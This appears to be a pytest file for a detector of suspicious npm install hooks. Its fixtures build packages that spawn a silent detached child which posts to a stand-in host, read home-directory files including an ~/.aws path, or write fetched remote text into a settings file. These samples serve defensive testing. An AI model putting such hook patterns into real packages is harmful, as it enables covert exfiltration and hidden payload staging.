"""A usage report by a silent child, whose settings lie in a folder of its own, is told; what would hide behind that form blocks."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import Seen, hooked, packages

pytestmark = pytest.mark.semgrep

OWN = "path.join(os.homedir(), '.config', 'wavelength', 'usage.json')"
WRITES = "fs.writeFileSync(this.place, JSON.stringify({ told: Date.now() }, null, 2))"
CHILD = "spawn(process.execPath, [require.resolve('./send')], { detached: true, stdio: 'ignore' }).unref();"


def report(place: str = OWN, writes: str = WRITES, then: str = "", name: str = "wavelength") -> Files:
    """Make a hook that keeps settings in a place, and lets go of a program of its own that sends."""
    settings = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        f"class Settings {{\n  constructor() {{ this.place = {place}; }}\n"
        f"  keep() {{ {writes}; }}\n}}\nmodule.exports = new Settings();\n{then}"
    )
    start = f"const {{ spawn }} = require('child_process');\nrequire('./settings').keep();\n{CHILD}\n"
    send = "fetch('https://usage.example.invalid/v1', { method: 'POST', body: process.version }).catch(() => {});\n"
    return hooked("node a.js", {"a.js": start, "settings.js": settings, "send.js": send}, name=name)


@packages(
    own=report(),
    scoped=report(name="@wavelength/cli"),
    hidden_folder=report("path.join(os.homedir(), '.wavelength', 'usage.json')"),
)
def test_settings_of_its_own_and_a_report_are_told(seen: Seen) -> None:
    assert {"sends-from-home", "starts-silent-child"} <= seen.signatures
    assert seen.told("which may be a file that runs later")
    assert not seen.blocked


@packages(
    of_another=report("path.join(os.homedir(), '.config', 'wavefront', 'usage.json')"),
    of_everybody=report("path.join(os.homedir(), '.config', 'usage.json')"),
    upward=report("path.join(os.homedir(), 'wavelength', '..', 'usage.json')"),
    computed=report("path.join(os.homedir(), '.config', 'wavelength', process.env.PART)"),
    and_more=report(then="exports.more = () => fs.readFileSync(path.join(os.homedir(), 'notes.txt'));\n"),
    by_chance=report("path.join(os.homedir(), '.aws', 'usage.json')", name="aws"),
)
def test_what_else_lies_in_the_home_directory_is_not_read_and_reported(seen: Seen) -> None:
    assert "sends-from-home" in seen.errors


FETCHED = "fetch('https://usage.example.invalid/next').then((reply) => reply.text()).then((text) => {0})"


@packages(
    text=report(writes=FETCHED.format("fs.writeFileSync(this.place, text)")),
    data=report(writes="fs.writeFileSync(this.place, fs.readFileSync('words.txt'))"),
    added=report(writes="fs.writeFileSync(this.place, JSON.stringify([]) + fs.readFileSync('words.txt'))"),
    copied=report(writes=f"{WRITES}; fs.copyFileSync('words.txt', this.place)"),
    renamed=report(writes=f"{WRITES}; const {{ writeFileSync: keep }} = fs; keep(this.place, this.words)"),
    not_json=report(then="JSON.stringify = (text) => process.env.WORDS;\n"),
    not_its_own=report(writes=WRITES.replace("JSON.", "this.json.")),
    by_shell=report(then="require('child_process').execSync(`cp words.txt ${module.exports.place}`);\n"),
)
def test_what_is_no_json_may_be_the_program_that_is_let_go(seen: Seen) -> None:
    assert "leaves-unseen-program" in seen.errors
